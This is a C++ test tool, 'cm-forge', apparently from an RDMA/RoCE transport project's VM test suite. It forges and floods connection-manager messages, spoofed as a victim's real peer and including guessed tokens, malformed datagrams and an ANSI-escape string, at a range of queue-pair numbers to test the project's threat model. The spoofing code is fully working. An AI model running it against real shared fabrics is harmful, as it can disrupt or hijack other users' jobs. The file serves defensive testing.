// Copyright (c) 2026 ompi-roce developers. See LICENSE.
//
// cm-forge: what another user's process on the fabric can do to a running
// job's connection setup (docs/security.md, threat model). Unprivileged, it
// opens the RDMA device, makes its own UD QP with the public default Q_Key,
// and sprays the btl's connection messages - REQ, REP, RTU, REJECT, forged
// as coming from a real peer of the victim, with guessed tokens, conn_id
// 0xffffffff, random job ids, truncated and corrupted - at every UD QP
// number in a range on the victim's address. It knows the names (they are
// public) but not the tokens.
//
//   cm-forge --dev rxe_bond0 --sgid-index N --dest 198.18.0.2 --victim NAME
//            --as NAME [--qpn-range 0x11-0x200] [--count N] [--rate N]
//            [--qkey Q] [--seed S]
//
// NAME is a process name as the btl logs it: "[[FAMILY,LOCAL],VPID]" (Open
// MPI's form, as in "rank 1 (node2, [[41235,1],1])"), "[JOBID,VPID]" or
// "JOBID,VPID" (the 32-bit jobid), or a 64-bit number (jobid << 32 | vpid). Prints how many datagrams it sent
// of each kind; exits 0 when it sent them all, 2 on a setup error.
//
// Test code (tests/vm): real rdma-core calls, not a model. It must never be
// pointed at anything but the VM guests.
#include <arpa/inet.h>
#include <infiniband/verbs.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "proto/wire.h"

using namespace roce::btl;

namespace {

struct Options {
    std::string dev = "rxe_bond0";
    int port = 1;
    int sgid_index = -1;
    std::string dest;
    uint64_t victim = 0;
    uint64_t as = 0;
    uint32_t qpn_lo = 0x11, qpn_hi = 0x200;
    uint64_t count = 20000;
    uint64_t rate = 2000; ///< datagrams per second
    uint32_t qkey = 0x1ee7a330;
    uint64_t seed = 1;
};

const char kUsage[] =
    "usage: cm-forge --dev DEV --sgid-index N --dest IPV4 --victim NAME --as NAME [--port P]\n"
    "                [--qpn-range LO-HI] [--count N] [--rate N/s] [--qkey Q] [--seed S]\n"
    "Sends COUNT forged btl roce connection messages (REQ, REP, RTU, REJECT and malformed\n"
    "ones, in turn at random) from a UD QP of DEV's GID N to every UD QP number in\n"
    "LO-HI (default 0x11-0x200, round robin) at IPV4, RATE per second (default 2000),\n"
    "claiming to come from NAME (--as; a quarter with a random job id instead) and\n"
    "addressed to NAME (--victim), with guessed tokens and connection ids (0xffffffff\n"
    "among them). NAME: \"[[FAMILY,LOCAL],VPID]\" as Open MPI prints it, \"[JOBID,VPID]\",\n"
    "\"JOBID,VPID\" or jobid << 32 | vpid. Prints one line with what it sent; exit 0\n"
    "when every datagram was posted, 2 on a usage or setup error.\n";

[[noreturn]] void usage(const char *why) {
    std::fprintf(stderr, "cm-forge: %s\n%s", why, kUsage);
    std::exit(2);
}

// Open MPI prints a name as "[[FAMILY,LOCAL],VPID]" (OPAL_NAME_PRINT: the
// 32-bit jobid split into its job family, the high 16 bits, and the local
// job, the low 16); the btl's connection manager prints names it has no
// peer for as "[JOBID,VPID]". Both must match the whole string.
bool parse_name(const char *s, uint64_t *out) {
    unsigned family = 0, local = 0, job = 0, vpid = 0;
    int end = -1;
    if (std::sscanf(s, "[[%u,%u],%u]%n", &family, &local, &vpid, &end) == 3 && s[end] == '\0') {
        if (family > 0xffff || local > 0xffff) {
            return false;
        }
        *out = static_cast<uint64_t>(family << 16 | local) << 32 | vpid;
        return true;
    }
    end = -1;
    if ((std::sscanf(s, "[%u,%u]%n", &job, &vpid, &end) == 2 ||
         std::sscanf(s, "%u,%u%n", &job, &vpid, &end) == 2) &&
        end > 0 && s[end] == '\0') {
        *out = static_cast<uint64_t>(job) << 32 | vpid;
        return true;
    }
    char *e = nullptr;
    *out = std::strtoull(s, &e, 0);
    return e != s && *e == '\0';
}

Options parse(int argc, char **argv) {
    Options o;
    for (int i = 1; i < argc; ++i) {
        std::string a = argv[i];
        auto val = [&]() -> const char * {
            if (i + 1 >= argc) {
                usage(("missing value for " + a).c_str());
            }
            return argv[++i];
        };
        if (a == "-h" || a == "--help") {
            std::fputs(kUsage, stdout);
            std::exit(0);
        } else if (a == "--dev") {
            o.dev = val();
        } else if (a == "--port") {
            o.port = std::atoi(val());
        } else if (a == "--sgid-index") {
            o.sgid_index = std::atoi(val());
        } else if (a == "--dest") {
            o.dest = val();
        } else if (a == "--victim") {
            if (!parse_name(val(), &o.victim)) usage("bad --victim");
        } else if (a == "--as") {
            if (!parse_name(val(), &o.as)) usage("bad --as");
        } else if (a == "--qpn-range") {
            const char *v = val();
            char *end = nullptr;
            o.qpn_lo = static_cast<uint32_t>(std::strtoul(v, &end, 0));
            if (end == v || *end != '-') {
                usage("bad --qpn-range (LO-HI)");
            }
            o.qpn_hi = static_cast<uint32_t>(std::strtoul(end + 1, nullptr, 0));
            if (o.qpn_lo < 2 || o.qpn_lo > o.qpn_hi || o.qpn_hi > 0xffffff) {
                usage("bad --qpn-range (LO-HI)");
            }
        } else if (a == "--count") {
            o.count = std::strtoull(val(), nullptr, 0);
        } else if (a == "--rate") {
            o.rate = std::strtoull(val(), nullptr, 0);
        } else if (a == "--qkey") {
            o.qkey = static_cast<uint32_t>(std::strtoul(val(), nullptr, 0));
        } else if (a == "--seed") {
            o.seed = std::strtoull(val(), nullptr, 0);
        } else {
            usage(("unknown option " + a).c_str());
        }
    }
    if (o.sgid_index < 0 || o.dest.empty() || o.victim == 0 || o.as == 0 || o.rate == 0) {
        usage("--sgid-index, --dest, --victim and --as are required");
    }
    return o;
}

wire::Gid mapped(const std::string &ipv4) {
    wire::Gid g{};
    in_addr a{};
    if (inet_pton(AF_INET, ipv4.c_str(), &a) != 1) {
        usage("--dest must be an IPv4 address");
    }
    g[10] = g[11] = 0xff;
    std::memcpy(g.data() + 12, &a, 4);
    return g;
}

enum Kind { kReq, kRep, kRtu, kRej, kJunk, kKinds };
const char *kind_name[kKinds] = {"REQ", "REP", "RTU", "REJ", "malformed"};

std::vector<uint8_t> forge(const Options &o, std::mt19937_64 &rng, const wire::Gid &src,
                           const wire::Gid &dst, Kind kind) {
    wire::CmMessage m;
    m.type = kind == kJunk ? wire::CmType::kRequest : static_cast<wire::CmType>(kind + 1);
    // Mostly the real peer's name; sometimes a random job id.
    m.src_name = rng() % 4 == 0 ? (rng() & 0xffffffff00000000ull) | (o.as & 0xffffffff) : o.as;
    m.dst_name = o.victim;
    m.src_token = rng() % 2 ? 0 : rng(); // a guess: the real tokens are in the job's modex
    m.dst_token = rng() % 2 ? 0 : rng();
    uint32_t ids[] = {0xffffffffu, 1, 2, 3, static_cast<uint32_t>(rng())};
    m.conn_id = ids[rng() % 5];
    m.src_ud_qpn = static_cast<uint32_t>(o.qpn_lo);
    m.first_path = 0;
    m.path_mtu = 3;
    m.credits = 0xffff;
    m.superseded = 0xffffffffu;
    m.src_gid = src;
    m.dst_gid = dst;
    for (int i = 0; i < 2; ++i) {
        m.paths.push_back({static_cast<uint32_t>(o.qpn_lo + rng() % 64),
                           static_cast<uint32_t>(rng() & 0xffffff)});
    }
    m.reason = wire::RejectReason::kStale;
    m.text = "forged \x1b[31mred\x1b[0m";
    std::vector<uint8_t> b = wire::encode(m);
    if (kind == kJunk) {
        if (rng() % 2) {
            b.resize(rng() % b.size());
        } else {
            b[rng() % b.size()] ^= static_cast<uint8_t>(1 + rng() % 255);
        }
    }
    return b;
}

} // namespace

int main(int argc, char **argv) {
    Options o = parse(argc, argv);
    int n = 0;
    ibv_device **list = ibv_get_device_list(&n);
    ibv_context *ctx = nullptr;
    for (int i = 0; list != nullptr && i < n; ++i) {
        if (o.dev == ibv_get_device_name(list[i])) {
            ctx = ibv_open_device(list[i]);
        }
    }
    if (list != nullptr) {
        ibv_free_device_list(list);
    }
    if (ctx == nullptr) {
        std::fprintf(stderr, "cm-forge: cannot open %s: %s\n", o.dev.c_str(), std::strerror(errno));
        return 2;
    }
    ibv_gid sgid{};
    if (ibv_query_gid(ctx, static_cast<uint8_t>(o.port), o.sgid_index, &sgid) != 0) {
        std::fprintf(stderr, "cm-forge: no GID %d on %s:%d\n", o.sgid_index, o.dev.c_str(), o.port);
        return 2;
    }
    ibv_pd *pd = ibv_alloc_pd(ctx);
    ibv_cq *cq = pd ? ibv_create_cq(ctx, 256, nullptr, nullptr, 0) : nullptr;
    constexpr size_t kSlot = 512, kSlots = 64;
    std::vector<uint8_t> buf(kSlot * kSlots);
    ibv_mr *mr = cq ? ibv_reg_mr(pd, buf.data(), buf.size(), IBV_ACCESS_LOCAL_WRITE) : nullptr;
    ibv_qp_init_attr ia{};
    ia.send_cq = ia.recv_cq = cq;
    ia.qp_type = IBV_QPT_UD;
    ia.cap.max_send_wr = kSlots;
    ia.cap.max_recv_wr = 1;
    ia.cap.max_send_sge = ia.cap.max_recv_sge = 1;
    ibv_qp *qp = mr ? ibv_create_qp(pd, &ia) : nullptr;
    if (qp == nullptr) {
        std::fprintf(stderr, "cm-forge: cannot set up a UD QP on %s: %s\n", o.dev.c_str(),
                     std::strerror(errno));
        return 2;
    }
    ibv_qp_attr a{};
    a.qp_state = IBV_QPS_INIT;
    a.pkey_index = 0;
    a.port_num = static_cast<uint8_t>(o.port);
    a.qkey = o.qkey;
    int rc = ibv_modify_qp(qp, &a, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_QKEY);
    a = ibv_qp_attr{};
    a.qp_state = IBV_QPS_RTR;
    rc = rc ? rc : ibv_modify_qp(qp, &a, IBV_QP_STATE);
    a = ibv_qp_attr{};
    a.qp_state = IBV_QPS_RTS;
    a.sq_psn = 0;
    rc = rc ? rc : ibv_modify_qp(qp, &a, IBV_QP_STATE | IBV_QP_SQ_PSN);
    if (rc != 0) {
        std::fprintf(stderr, "cm-forge: UD QP to RTS: %s\n", std::strerror(rc));
        return 2;
    }
    wire::Gid dst = mapped(o.dest);
    ibv_ah_attr ah_attr{};
    ah_attr.is_global = 1;
    std::memcpy(ah_attr.grh.dgid.raw, dst.data(), 16);
    ah_attr.grh.sgid_index = static_cast<uint8_t>(o.sgid_index);
    ah_attr.grh.hop_limit = 64;
    ah_attr.port_num = static_cast<uint8_t>(o.port);
    ibv_ah *ah = ibv_create_ah(pd, &ah_attr);
    if (ah == nullptr) {
        std::fprintf(stderr, "cm-forge: ibv_create_ah to %s: %s\n", o.dest.c_str(),
                     std::strerror(errno));
        return 2;
    }
    wire::Gid src{};
    std::memcpy(src.data(), sgid.raw, 16);

    std::mt19937_64 rng(o.seed);
    uint64_t sent[kKinds] = {};
    uint64_t done = 0, inflight = 0, failed = 0;
    auto start = std::chrono::steady_clock::now();
    uint32_t qpn = o.qpn_lo;
    for (uint64_t i = 0; i < o.count; ++i) {
        // Pace to --rate.
        auto due = start + std::chrono::microseconds(i * 1000000 / o.rate);
        std::this_thread::sleep_until(due);
        while (inflight >= kSlots - 1) {
            ibv_wc wc[16];
            int k = ibv_poll_cq(cq, 16, wc);
            for (int j = 0; j < k; ++j) {
                failed += wc[j].status != IBV_WC_SUCCESS ? 1 : 0;
            }
            inflight -= static_cast<uint64_t>(k > 0 ? k : 0);
        }
        Kind kind = static_cast<Kind>(rng() % kKinds);
        std::vector<uint8_t> b = forge(o, rng, src, dst, kind);
        uint8_t *slot = buf.data() + (i % kSlots) * kSlot;
        std::memcpy(slot, b.data(), b.size());
        ibv_sge sge{reinterpret_cast<uint64_t>(slot), static_cast<uint32_t>(b.size()), mr->lkey};
        ibv_send_wr wr{};
        wr.wr_id = i;
        wr.sg_list = &sge;
        wr.num_sge = b.empty() ? 0 : 1;
        wr.opcode = IBV_WR_SEND;
        wr.send_flags = IBV_SEND_SIGNALED;
        wr.wr.ud.ah = ah;
        wr.wr.ud.remote_qpn = qpn;
        wr.wr.ud.remote_qkey = o.qkey;
        ibv_send_wr *bad = nullptr;
        if (ibv_post_send(qp, &wr, &bad) != 0) {
            std::fprintf(stderr, "cm-forge: ibv_post_send: %s\n", std::strerror(errno));
            return 2;
        }
        ++inflight;
        ++sent[kind];
        ++done;
        qpn = qpn >= o.qpn_hi ? o.qpn_lo : qpn + 1;
    }
    while (inflight > 0) {
        ibv_wc wc[16];
        int k = ibv_poll_cq(cq, 16, wc);
        for (int j = 0; j < k; ++j) {
            failed += wc[j].status != IBV_WC_SUCCESS ? 1 : 0;
        }
        inflight -= static_cast<uint64_t>(k > 0 ? k : 0);
    }
    double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    std::printf("cm-forge: sent %llu datagrams in %.1f s to %s QPNs 0x%x-0x%x as %llx -> %llx:",
                static_cast<unsigned long long>(done), secs, o.dest.c_str(), o.qpn_lo, o.qpn_hi,
                static_cast<unsigned long long>(o.as), static_cast<unsigned long long>(o.victim));
    for (int k = 0; k < kKinds; ++k) {
        std::printf(" %s %llu", kind_name[k], static_cast<unsigned long long>(sent[k]));
    }
    std::printf("; %llu send completions in error\n", static_cast<unsigned long long>(failed));
    ibv_destroy_ah(ah);
    ibv_destroy_qp(qp);
    ibv_dereg_mr(mr);
    ibv_destroy_cq(cq);
    ibv_dealloc_pd(pd);
    ibv_close_device(ctx);
    return 0;
}
